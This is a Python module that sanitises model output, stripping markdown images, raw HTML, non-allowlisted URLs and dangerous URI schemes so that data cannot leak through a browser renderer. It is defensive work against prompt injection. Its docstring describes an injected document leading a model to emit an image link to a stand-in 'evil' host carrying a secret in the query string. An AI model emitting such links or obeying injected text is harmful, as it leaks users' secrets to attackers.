"""Output sanitising against exfiltration through the user's browser (OWASP LLM05).

A prompt-injected document can make the model emit ``![x](https://evil/?q=<secret>)``;
a markdown renderer fetches the image and the secret leaves, whatever the
egress NetworkPolicies say. So, in every mode:

* markdown images (inline, reference-style and shortcut) are removed;
* ``<`` is escaped, so no raw HTML (img, iframe, script, autolinks) survives;
* any URL whose host is not on the allowlist (empty by default) is removed,
  wherever it appears: link targets, reference definitions, bare text;
* ``javascript:``, ``data:`` and ``vbscript:`` URIs are removed.

``StreamSanitizer`` applies the same rules to a token stream: it only releases
text up to a point where no markdown construct is open, so a construct split
across tokens is sanitised whole.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from urllib.parse import urlsplit

IMAGE_REMOVED = "[image removed]"
LINK_REMOVED = "[link removed]"

_INLINE_IMAGE = re.compile(r"!\s*\[[^\]]*\]\s*\([^)]*\)?", re.DOTALL)
_REF_IMAGE = re.compile(r"!\s*\[[^\]]*\]\s*(\[[^\]]*\])?", re.DOTALL)
_REF_DEF = re.compile(r"^[ \t]{0,3}\[[^\]\n]+\]:[ \t]*(\S+).*$", re.MULTILINE)
_LINK = re.compile(r"\[([^\]]*)\]\(\s*([^)\s]*)[^)]*\)", re.DOTALL)
_DANGEROUS_SCHEME = re.compile(r"(?i)\b(?:javascript|data|vbscript|file)\s*:[^\s)\]]*")
_URL = re.compile(r"(?i)(?:\b[a-z][a-z0-9+.-]*://|(?<![\w/])//|\bwww\.)[^\s<>()\[\]\"'`]+")


class Sanitizer:
    def __init__(self, allowlist: Iterable[str] = ()) -> None:
        self._allow = {h.lower().strip() for h in allowlist if h.strip()}

    def host_allowed(self, url: str) -> bool:
        if not self._allow:
            return False
        candidate = url if "://" in url else ("https:" + url if url.startswith("//") else "https://" + url)
        try:
            parts = urlsplit(candidate)
        except ValueError:
            return False
        if parts.scheme.lower() not in ("http", "https") or parts.username or parts.password:
            return False
        host = (parts.hostname or "").lower()
        return any(host == a or host.endswith("." + a) for a in self._allow)

    def __call__(self, text: str) -> str:
        text = _INLINE_IMAGE.sub(IMAGE_REMOVED, text)
        text = _REF_IMAGE.sub(IMAGE_REMOVED, text)
        text = _REF_DEF.sub(lambda m: m.group(0) if self.host_allowed(m.group(1)) else "", text)
        text = _LINK.sub(self._link, text)
        text = _DANGEROUS_SCHEME.sub(LINK_REMOVED, text)
        text = _URL.sub(lambda m: m.group(0) if self.host_allowed(m.group(0)) else LINK_REMOVED, text)
        return text.replace("<", "&lt;")

    def _link(self, m: re.Match[str]) -> str:
        label, url = m.group(1), m.group(2)
        return m.group(0) if self.host_allowed(url) else label


class StreamSanitizer:
    """Sanitises a stream of deltas; call ``feed`` per delta and ``flush`` at the end."""

    # Past this much pending text, release it anyway (sanitised) so a never-closed
    # bracket cannot stall the stream or grow memory without bound.
    MAX_PENDING = 4096

    def __init__(self, sanitizer: Sanitizer) -> None:
        self._sanitize = sanitizer
        self._pending = ""

    def feed(self, delta: str) -> str:
        self._pending += delta
        cut = _safe_cut(self._pending)
        if cut == 0 and len(self._pending) > self.MAX_PENDING:
            cut = len(self._pending)
        ready, self._pending = self._pending[:cut], self._pending[cut:]
        return self._sanitize(ready) if ready else ""

    def flush(self) -> str:
        ready, self._pending = self._pending, ""
        return self._sanitize(ready) if ready else ""


def _safe_cut(text: str) -> int:
    """Index just after the last whitespace at which no ``[``, ``(`` or ``<`` is open.

    URLs contain no whitespace, so cutting at whitespace never splits one; a
    ``]`` at the very end might be followed by ``(`` or ``[``, so it stays open.
    """
    square = paren = angle = 0
    cut = 0
    for i, ch in enumerate(text):
        if ch == "[":
            square += 1
        elif ch == "]" and square:
            square -= 1
        elif ch == "(":
            paren += 1
        elif ch == ")" and paren:
            paren -= 1
        elif ch == "<":
            angle += 1
        elif ch == ">" and angle:
            angle -= 1
        elif ch.isspace() and not (square or paren or angle):
            prev = text[:i].rstrip()
            if not prev.endswith(("]", "!")):
                cut = i + 1
    return cut
